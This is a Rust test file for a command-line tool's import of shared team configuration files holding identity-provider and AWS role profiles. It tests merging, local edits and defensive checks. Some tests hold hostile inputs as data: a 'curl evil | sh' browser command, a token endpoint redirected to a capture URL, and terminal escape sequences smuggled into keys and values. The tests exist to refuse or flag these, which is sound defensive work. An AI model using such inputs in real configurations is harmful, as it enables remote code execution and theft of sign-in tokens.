use super::*;

const LOCAL: &str = "# mine\n[providers.corp]  # the company IdP\nissuer = \"https://idp.example.com/\"\nclient_id = \"c\"\n\n\
[profiles.dev]\nprovider = \"corp\"\nrole_arn = \"arn:aws:iam::123456789012:role/dev\"\nregion = \"eu-west-1\" # I work from Dublin\n";

const TEAM_V1: &str = "[providers.corp]\nissuer = \"https://idp.example.com/\"\nclient_id = \"c\"\n\n\
[profiles.dev]\nprovider = \"corp\"\nrole_arn = \"arn:aws:iam::123456789012:role/dev\"\nregion = \"eu-west-1\"\n\n\
# production, read-only\n[profiles.prod]\nprovider = \"corp\"\nrole_arn = \"arn:aws:iam::123456789012:role/prod\"\n";

fn actions(p: &ImportPlan) -> Vec<(String, Action)> {
    p.changes.iter().map(|c| (format!("{}.{}", c.section, c.name), c.action)).collect()
}

#[test]
fn new_entries_are_added_with_their_comments_and_local_ones_keep_theirs() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.toml");
    std::fs::write(&file, LOCAL).unwrap();
    let p = plan("team.toml", TEAM_V1, LOCAL, None).unwrap();
    assert_eq!(
        actions(&p),
        vec![
            ("providers.corp".into(), Action::Unchanged),
            ("profiles.dev".into(), Action::Unchanged),
            ("profiles.prod".into(), Action::Add),
        ]
    );
    let c = apply(&p, &file, dir.path(), false).unwrap();
    assert!(c.profiles.contains_key("prod"));
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.starts_with("# mine\n[providers.corp]  # the company IdP\n"), "{text}");
    assert!(text.contains("region = \"eu-west-1\" # I work from Dublin"), "{text}");
    assert!(text.contains("# production, read-only\n[profiles.prod]"), "{text}");
}

#[test]
fn team_changes_update_untouched_entries_but_never_a_local_edit() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.toml");
    std::fs::write(&file, TEAM_V1).unwrap();
    apply(&plan("team.toml", TEAM_V1, TEAM_V1, None).unwrap(), &file, dir.path(), false).unwrap();
    // the person edits dev; the team changes dev and prod
    let local =
        std::fs::read_to_string(&file).unwrap().replace("region = \"eu-west-1\"", "region = \"us-west-2\" # me");
    std::fs::write(&file, &local).unwrap();
    let v2 = TEAM_V1
        .replace("region = \"eu-west-1\"", "region = \"ap-northeast-1\"")
        .replace("role/prod\"", "role/prod\"\nregion = \"us-east-2\"");
    let base = std::fs::read_to_string(base_file(dir.path(), "team.toml")).unwrap();
    let p = plan("team.toml", &v2, &local, Some(&base)).unwrap();
    assert_eq!(
        actions(&p)[1..],
        [("profiles.dev".into(), Action::KeepLocalEdit), ("profiles.prod".into(), Action::Update)]
    );
    assert_eq!(p.changes[1].details, vec!["region: \"us-west-2\" -> \"ap-northeast-1\"".to_string()]);
    assert_eq!(p.changes[2].details, vec!["region = \"us-east-2\"".to_string()]);
    let c = apply(&p, &file, dir.path(), false).unwrap();
    assert_eq!(c.profiles["dev"].region, "us-west-2", "the local edit stays");
    assert_eq!(c.profiles["prod"].region, "us-east-2");
    // the plan is made again against the file as it is now (applying the old one is refused below)
    assert!(matches!(apply(&p, &file, dir.path(), true), Err(ImportError::ChangedSincePreview)));
    let (local, base) =
        (std::fs::read_to_string(&file).unwrap(), std::fs::read_to_string(base_file(dir.path(), "team.toml")).unwrap());
    let p = plan("team.toml", &v2, &local, Some(&base)).unwrap();
    let c = apply(&p, &file, dir.path(), true).unwrap();
    assert_eq!(c.profiles["dev"].region, "ap-northeast-1", "overwritten only when asked");
    assert!(
        std::fs::read_to_string(&file).unwrap().contains("region = \"ap-northeast-1\" # me"),
        "the key's comment stays"
    );
}

#[test]
fn bad_team_files_are_refused_before_anything_is_written() {
    assert!(matches!(plan("t", "[x", LOCAL, None), Err(ImportError::Syntax { .. })));
    assert!(matches!(plan("t", "[app]\nlanguage='ja'\n", LOCAL, None), Err(ImportError::Empty { .. })));
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("config.toml");
    std::fs::write(&file, LOCAL).unwrap();
    let bad = "[profiles.x]\nprovider = \"nope\"\nrole_arn = \"arn:aws:iam::123456789012:role/x\"\n";
    let e = apply(&plan("t", bad, LOCAL, None).unwrap(), &file, dir.path(), false).unwrap_err();
    assert!(e.to_string().contains("profiles.x.provider"), "{e}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), LOCAL);
}

const TEAM_MOVES_SECRETS: &str = "[providers.corp]\nissuer = \"https://idp.example.com/\"\nclient_id = \"c\"\n\
token_endpoint = \"http://127.0.0.1:9/capture\"\n\n[profiles.dev]\nprovider = \"corp\"\n\
role_arn = \"arn:aws:iam::123456789012:role/dev\"\nregion = \"eu-west-1\"\n";

/// config.toml as it was imported from TEAM_V1 (so the team's later changes are updates).
fn imported(dir: &Path) -> PathBuf {
    let file = dir.join("config.toml");
    std::fs::write(&file, TEAM_V1).unwrap();
    apply(&plan("team.toml", TEAM_V1, TEAM_V1, None).unwrap(), &file, dir, false).unwrap();
    file
}

#[test]
fn a_team_change_that_moves_a_secret_is_shown_apart_and_needs_its_own_yes() {
    let dir = tempfile::tempdir().unwrap();
    let file = imported(dir.path());
    let local = std::fs::read_to_string(&file).unwrap();
    let base = std::fs::read_to_string(base_file(dir.path(), "team.toml")).unwrap();
    let mut p = plan("team.toml", TEAM_MOVES_SECRETS, &local, Some(&base)).unwrap();
    assert_eq!(p.changes[0].action, Action::Update, "an ordinary update otherwise");
    assert!(p.changes[0].details.is_empty(), "not among the ordinary lines: {:?}", p.changes[0].details);
    let shown: Vec<_> = p.sensitive(false).into_iter().cloned().collect();
    assert_eq!(shown.len(), 1);
    assert_eq!(
        (shown[0].key.as_str(), shown[0].new.as_deref()),
        ("token_endpoint", Some("http://127.0.0.1:9/capture"))
    );
    assert!(
        shown[0].describe().contains("refresh tokens (your stored sign-in) will be sent to http://127.0.0.1:9/capture")
    );
    let e = apply(&p, &file, dir.path(), false).unwrap_err();
    assert!(matches!(e, ImportError::SensitiveNotApproved { count: 1 }), "{e}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), local, "nothing written");
    // a yes to something else is no yes to this
    let mut other = shown[0].clone();
    other.new = Some("https://elsewhere.example/".into());
    p.approve(vec![other]);
    assert!(apply(&p, &file, dir.path(), false).is_err());
    p.approve(shown);
    let c = apply(&p, &file, dir.path(), false).unwrap();
    assert_eq!(c.providers["corp"].token_endpoint.as_deref(), Some("http://127.0.0.1:9/capture"));
}

#[test]
fn a_team_file_may_not_name_the_program_that_opens_the_console() {
    let team = "[profiles.dev]\nprovider = \"corp\"\nrole_arn = \"arn:aws:iam::123456789012:role/dev\"\n\
        browser = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
    let e = plan("https://u:p@team.example/t.toml?sig=s", team, LOCAL, None).unwrap_err();
    let text = e.to_string();
    assert!(matches!(e, ImportError::LocalOnly { .. }), "{text}");
    assert!(text.contains("`browser` for [profiles.dev]") && text.contains("local choice"), "{text}");
    assert!(!text.contains("u:p") && !text.contains("sig=s"), "credentials of the URL in: {text}");
}

#[test]
fn names_keys_and_values_from_the_team_reach_no_terminal_raw() {
    let team = "[profiles.\"dev\\u001b]52;c;eA==\\u0007\"]\nprovider = \"corp\"\n\
        role_arn = \"arn:aws:iam::1:role/\\u202egpj\"\n\"k\\u001b[2K\" = \"v\\r\\nforged\"\n\
        sts_endpoint = \"https://sts.example/\\u001b]0;t\\u0007\"\n";
    let p = plan("team.toml", team, LOCAL, None).unwrap();
    let c = &p.changes[0];
    let shown: Vec<String> =
        [c.entry()].into_iter().chain(c.details.clone()).chain(c.sensitive.iter().map(|s| s.describe())).collect();
    assert_eq!(shown.len(), 5, "{shown:?}");
    // the window's data too: every key and value of the structured changes
    let parts = c.keys.iter().flat_map(|k| [Some(k.key.clone()), k.old.clone(), k.new.clone()]).flatten();
    let shown: Vec<String> = shown.into_iter().chain(parts).collect();
    assert_eq!(c.keys.len(), c.details.len(), "{:?}", c.keys);
    for line in shown {
        assert!(!line.chars().any(|ch| ch.is_control() || ch == '\u{202e}'), "{line:?}");
    }
}

#[test]
fn key_changes_come_as_data_too_for_a_window_to_phrase() {
    let base = "[profiles.p]\nprovider = \"corp\"\nregion = \"eu-west-1\"\nsession_name_claim = \"email\"\n";
    let team = "[profiles.p]\nprovider = \"corp\"\nregion = \"ap-northeast-1\"\nexternal_id = \"x\"\n";
    let p = plan("team.toml", team, base, Some(base)).unwrap();
    let c = &p.changes[0];
    assert_eq!(c.action, Action::Update);
    let change = |key: &str, old: Option<&str>, new: Option<&str>| KeyChange {
        key: key.into(),
        old: old.map(Into::into),
        new: new.map(Into::into),
    };
    assert_eq!(
        c.keys,
        vec![
            change("external_id", None, Some("\"x\"")),
            change("region", Some("\"eu-west-1\""), Some("\"ap-northeast-1\"")),
            change("session_name_claim", Some("\"email\""), None),
        ]
    );
    assert_eq!(c.details[2], "session_name_claim: \"email\" -> (removed)", "the CLI's lines as they were");
}

#[test]
fn a_local_source_is_read_only_if_it_is_a_regular_file_within_the_cap() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.toml");
    std::fs::write(&big, "#".repeat(MAX_IMPORT_BYTES + 1)).unwrap();
    let run = |s: &str| tokio::runtime::Runtime::new().unwrap().block_on(fetch(s, None, Duration::from_secs(1)));
    assert!(matches!(run(big.to_str().unwrap()), Err(ImportError::TooLarge { .. })));
    std::fs::write(&big, "#".repeat(MAX_IMPORT_BYTES)).unwrap();
    assert_eq!(run(big.to_str().unwrap()).unwrap().len(), MAX_IMPORT_BYTES);
    let e = run(dir.path().to_str().unwrap()).unwrap_err();
    assert!(matches!(e, ImportError::NotAFile { .. }), "a directory: {e}");
    #[cfg(unix)]
    {
        let e = run("/dev/zero").unwrap_err();
        assert!(e.to_string().contains("is not a regular file"), "{e}");
        let fifo = dir.path().join("fifo");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        // would hang forever if opened blocking, with no writer
        let e = run(fifo.to_str().unwrap()).unwrap_err();
        assert!(e.to_string().contains("is not a regular file"), "{e}");
    }
    let e = run("http://user:pw@team.example/t.toml?X-Amz-Signature=abc").unwrap_err();
    assert!(!e.to_string().contains("pw") && !e.to_string().contains("abc"), "{e}");
}

#[cfg(unix)]
#[test]
fn an_import_writes_through_a_linked_config_toml() {
    let dir = tempfile::tempdir().unwrap();
    let dotfiles = dir.path().join("dotfiles");
    std::fs::create_dir(&dotfiles).unwrap();
    std::fs::write(dotfiles.join("config.toml"), LOCAL).unwrap();
    let link = dir.path().join("config.toml");
    std::os::unix::fs::symlink(dotfiles.join("config.toml"), &link).unwrap();
    apply(&plan("team.toml", TEAM_V1, LOCAL, None).unwrap(), &link, dir.path(), false).unwrap();
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link was replaced");
    assert!(std::fs::read_to_string(dotfiles.join("config.toml")).unwrap().contains("[profiles.prod]"));
}
